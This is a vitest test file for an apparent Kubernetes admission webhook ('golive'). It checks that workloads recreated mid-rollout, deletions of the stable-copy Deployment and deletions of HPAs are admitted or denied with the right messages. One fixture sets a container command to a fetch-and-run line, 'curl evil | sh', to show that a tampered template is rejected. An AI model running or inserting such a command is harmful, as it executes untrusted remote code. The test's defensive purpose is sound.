// A workload deleted and created again while its next Release rolls out (4.6 c, 4.10): golive's
// holds (a Deployment's stable copy, a StatefulSet's partition, a DaemonSet's OnDelete) live on
// the object, so a new object must come back as the Released version; a Deployment's new version
// needs its stable copy; the stable copy is not a user's to delete; an HPA the declared peak
// relies on (6.2.1) is not deleted under a live release.
import { describe, expect, it } from "vitest";
import type { ReleaseStatus, WorkloadKind } from "../api/index.js";
import type { AdmissionRequest, Decision } from "./admission.js";
import { decide } from "./decide.js";
import { templateHash } from "../operator/rollout/workloads.js";
import type { MemoryView } from "./memory-view.js";
import { approvedStatus, fixtureRelease, fixtureView, NS, OPERATOR, RELEASE, releaseSpec, request, workload } from "./testdata/fixtures.js";

const NOW = new Date("2026-12-01T12:00:00Z");
const STABLE = "web-1-1-0";
const STRATEGY = { trafficRouting: { service: "web" }, steps: [{ name: "one", setWeight: 34 }, { name: "all", setWeight: 100 }] };
const NAMES: Record<string, string> = { Deployment: "web", StatefulSet: "web-db", DaemonSet: "web-agent" };
const HELD: WorkloadKind[] = ["Deployment", "StatefulSet", "DaemonSet"];

/** RELEASE in `phase` (with a strategy unless told), and STABLE Released before it unless `first`. */
function view(phase: ReleaseStatus["phase"], o: { strategy?: boolean; first?: boolean; application?: string; stableCopy?: boolean; peak?: Record<string, unknown> } = {}): MemoryView {
  const v = fixtureView(NOW);
  const spec = releaseSpec() as Record<string, any>;
  if (o.strategy !== false) spec.strategy = STRATEGY;
  if (o.peak) spec.peak = o.peak;
  if (!o.first) v.releases.put(fixtureRelease(NOW, { name: STABLE, spec: { ...spec, version: "1.1.0" }, status: { ...approvedStatus(NOW), phase: "Released", releasedAt: "2026-11-30T12:00:00Z" } }));
  v.releases.put(fixtureRelease(NOW, { spec: { ...spec, ...(o.application ? { application: o.application } : {}) }, status: { ...approvedStatus(NOW), phase } }));
  if (o.stableCopy) v.deployments.put(stableCopy() as never);
  return v;
}
const stableCopy = () => workload("Deployment", { name: "web-stable", release: STABLE, labels: { "app.kubernetes.io/managed-by": "golive", "golive.dev/stable-of": "web" } });
const create = (kind: WorkloadKind, release: string, replicas?: number) => request(workload(kind, { name: NAMES[kind], release, ...(replicas !== undefined ? { replicas } : {}) }));
const update = (object: Record<string, any>, oldObject: Record<string, any>, user = "alice"): AdmissionRequest => request(object, { operation: "UPDATE", oldObject, user });
const remove = (object: Record<string, any>, user = "alice"): AdmissionRequest => ({ ...request(object, { operation: "DELETE", oldObject: object, user }), object: null });
function denied(d: Decision): string {
  expect(d.allowed, JSON.stringify(d.status)).toBe(false);
  return d.status?.message ?? "";
}
const admitted = (d: Decision) => expect(d.allowed, d.status?.message).toBe(true);

describe("a workload created again while its next release rolls out", () => {
  it.each(HELD.flatMap((kind) => (["Approved", "Verifying", "CleaningUp", "Progressing"] as const).map((phase) => [kind, phase] as const)))("%s, %s: the new version is denied, saying to recreate the Released version first", (kind, phase) => {
    const m = denied(decide(create(kind, RELEASE), view(phase)));
    expect(m).toContain(`${kind} ${NAMES[kind]} is being created with Release ${RELEASE}'s template while Release ${RELEASE} (${phase}) rolls it out; Release ${STABLE} is its Released version`);
    expect(m).toContain(`Create it with Release ${STABLE}'s manifest first (golive.dev/release=${STABLE}), then apply the new version as an update. GitOps (Argo CD Replace=true with Force=true, Flux force: true): sync that manifest first`);
    expect(m).toContain(kind === "Deployment" ? "its template would become the stable copy web-stable, unverified" : "every pod would start on it at once, and the stable ControllerRevision a rollback restores would be gone");
  });

  it("RollingBack: the new version is denied too", () => {
    for (const kind of HELD) expect(denied(decide(create(kind, RELEASE), view("RollingBack")))).toContain(`is being created with Release ${RELEASE}'s template while Release ${RELEASE} (RollingBack) rolls it out`);
  });

  it.each(HELD)("%s: the Released version is admitted (the way back), in every phase of the rollout", (kind) => {
    for (const phase of ["Approved", "Verifying", "Progressing", "RollingBack"] as const) admitted(decide(create(kind, STABLE), view(phase)));
  });

  it.each(HELD)("%s: a first release (nothing Released lists it), a release without a strategy and a Released release admit the new version", (kind) => {
    admitted(decide(create(kind, RELEASE), view("Approved", { first: true })));
    admitted(decide(create(kind, RELEASE), view("Approved", { strategy: false })));
    admitted(decide(create(kind, RELEASE), view("Released")));
  });

  it.each(HELD)("%s: the Released version only as that release verified its pod template, when its status records it", (kind) => {
    const v = view("Verifying");
    const stable = v.releases.get(NS, STABLE)!;
    const verified = templateHash(workload(kind, { name: NAMES[kind], release: STABLE }).spec.template);
    v.releases.put({ ...stable, status: { ...stable.status!, waves: [{ name: "default", phase: "Released", weight: 100, workloads: [{ kind, name: NAMES[kind]!, routing: "gatewayAPI", changed: true, replicas: 3, candidateTemplateHash: verified }] }] } } as never);
    admitted(decide(create(kind, STABLE), v));
    // Its label and sealed images, another command: not the version a rollback would restore.
    const other = workload(kind, { name: NAMES[kind], release: STABLE });
    other.spec.template.spec.containers[0].command = ["/bin/sh", "-c", "curl evil | sh"];
    const m = denied(decide(request(other), v));
    expect(m).toContain(`${kind} ${NAMES[kind]} is being created as Release ${STABLE}'s version while Release ${RELEASE} (Verifying) rolls it out, but its pod template is not the one Release ${STABLE} verified (template ${templateHash(other.spec.template)}, verified ${verified})`);
    expect(m).toContain(`Create it with exactly Release ${STABLE}'s manifest`);
  });

  it("matches releases by the workload they list, not by application: a new application name does not walk around it", () => {
    expect(denied(decide(create("StatefulSet", RELEASE), view("Approved", { application: "web-renamed" })))).toContain("is being created with Release web-1-2-0's template");
  });

  it("an object labelled with no release is denied by this rule as well as by the label rule", () => {
    const s = workload("StatefulSet", { name: "web-db", release: null });
    expect(denied(decide(request(s), view("Approved")))).toContain(`StatefulSet web-db is being created while Release ${RELEASE} (Approved) rolls it out`);
  });
});

describe("a Deployment's new version and its stable copy", () => {
  const old = () => workload("Deployment", { release: STABLE, replicas: 0 });
  const next = (replicas = 0) => workload("Deployment", { release: RELEASE, replicas });

  it("is denied while the stable copy is missing (deleted with the Deployment, or on its own), saying golive recreates it first", () => {
    const m = denied(decide(update(next(), old()), view("Approved")));
    expect(m).toContain(`Deployment web gets Release ${RELEASE}'s template while its stable copy web-stable is missing: it would be taken as a first release and become stable unverified`);
    expect(m).toContain(`golive recreates web-stable from Deployment web while that runs Release ${STABLE}'s manifest`);
    admitted(decide(update(next(), old()), view("Approved", { stableCopy: true })));
  });

  it("a first release has no stable copy by design: admitted", () => {
    admitted(decide(update(next(), workload("Deployment", { release: "web-1-0-0", replicas: 0 })), view("Approved", { first: true })));
  });

  it("by replica ratio, the new template with pods running is denied (they would serve users through the shared Service); with 0 admitted", () => {
    const v = view("Approved", { stableCopy: true });
    const m = denied(decide(update(next(3), workload("Deployment", { release: STABLE, replicas: 3 })), v));
    expect(m).toContain(`Deployment web gets a new template while Release ${RELEASE} (Approved) rolls it out by replica ratio, with spec.replicas 3: its 3 pod(s) would serve ordinary users through the shared Service before verification (4.6 c)`);
    expect(m).toContain("golive brings the new version up from 0 while web-stable serves: apply it with spec.replicas: 0");
    admitted(decide(update(next(0), old()), v));
    // From a Deployment running pods (recreated with them), straight to 0 with the new template.
    admitted(decide(update(next(0), workload("Deployment", { release: STABLE, replicas: 3 })), v));
    // Once Released the rollout is over: nothing is held.
    admitted(decide(update(next(3), workload("Deployment", { release: STABLE, replicas: 3 })), view("Released", { stableCopy: true })));
  });
});

describe("deleting golive's stable copy", () => {
  it("is denied to a user in any phase, even between releases, while its Deployment exists, saying how to retire the workload", () => {
    for (const phase of ["Approved", "Progressing", "Released"] as const) {
      const v = view(phase, { stableCopy: true });
      v.deployments.put(workload("Deployment", { release: STABLE, replicas: 0 }) as never);
      const m = denied(decide(remove(stableCopy()), v));
      expect(m).toContain("Deployment web-stable is golive's stable copy of Deployment web: the version traffic goes back to on rollback (4.10); without it the next release would be taken as a first release");
      expect(m).toContain("Delete Deployment web itself to retire the workload (its stable copy goes with it)");
    }
  });

  it("is allowed to the operator, to the garbage collector (the Deployment deleted) and once its Deployment is gone; other Deployments are deleted freely", () => {
    const v = view("Progressing", { stableCopy: true });
    v.deployments.put(workload("Deployment", { release: RELEASE, replicas: 0 }) as never);
    admitted(decide(remove(stableCopy(), OPERATOR), v));
    admitted(decide(remove(stableCopy(), "system:serviceaccount:kube-system:generic-garbage-collector"), v));
    admitted(decide(remove(workload("Deployment", { release: RELEASE })), v));
    // Left behind by kubectl delete --cascade=orphan, its Deployment gone: it guards nothing.
    const orphaned = view("Progressing", { stableCopy: true });
    expect(orphaned.deployments.get(NS, "web")).toBeUndefined();
    admitted(decide(remove(stableCopy()), orphaned));
    // A user's own Deployment whose name ends in -stable is not golive's copy.
    admitted(decide(remove(workload("Deployment", { name: "web-stable", release: RELEASE })), v));
  });
});

describe("deleting an HPA the declared peak relies on (6.2.1)", () => {
  const hpa = (name = "web", maxReplicas = 6) => ({ apiVersion: "autoscaling/v2", kind: "HorizontalPodAutoscaler", metadata: { name, namespace: NS }, spec: { scaleTargetRef: { apiVersion: "apps/v1", kind: "Deployment", name: "web" }, minReplicas: 3, maxReplicas } });
  const removeHpa = (o: Record<string, any>, user = "alice") => ({ ...remove(o, user), resource: { group: "autoscaling", version: "v2", resource: "horizontalpodautoscalers" } });
  function withHpa(phase: ReleaseStatus["phase"], peak: Record<string, unknown>): MemoryView {
    const v = view(phase, { peak, first: true });
    v.deployments.put(workload("Deployment", { release: RELEASE, replicas: 3 }) as never);
    v.statefulSets.put(workload("StatefulSet", { name: "web-db", release: RELEASE }) as never);
    v.autoscalers.put(hpa());
    return v;
  }

  it("is denied while the release is live when the peak is reached only through it, saying what to do", () => {
    for (const phase of ["Approved", "Progressing", "Released"] as const) {
      const m = denied(decide(removeHpa(hpa()), withHpa(phase, { pods: 8 })));
      expect(m).toContain(`golive denied deleting HorizontalPodAutoscaler ${NS}/web (Release ${RELEASE})`);
      expect(m).toContain(`Release ${RELEASE} needs 8 pods at peak (spec.peak.pods, 6.2.1) and reaches it only through HPA web (maxReplicas 6); without it its workloads reach 6 (replicas: Deployment web 3 (spec.replicas), StatefulSet web-db 3 (spec.replicas), DaemonSet web-agent 0 (design, not created yet), ReplicaSet web-rs 0 (design, not created yet), ReplicationController web-rc 0 (design, not created yet), Pod web-debug 0 (design, not created yet)): 2 short`);
      expect(m).toContain("create the replacement HPA first");
    }
  });

  it("is allowed with a replacement in place, when the peak does not need it, when it is short anyway, outside a live release, and to the cluster", () => {
    const replaced = withHpa("Released", { pods: 8 });
    replaced.autoscalers.put(hpa("web-v2", 6));
    admitted(decide(removeHpa(hpa()), replaced));
    admitted(decide(removeHpa(hpa()), withHpa("Released", { pods: 6 })));
    admitted(decide(removeHpa(hpa()), withHpa("Released", { pods: 20 })));
    admitted(decide(removeHpa(hpa()), withHpa("Blocked", { pods: 8 })));
    admitted(decide(removeHpa(hpa(), "system:serviceaccount:kube-system:namespace-controller"), withHpa("Released", { pods: 8 })));
  });
});
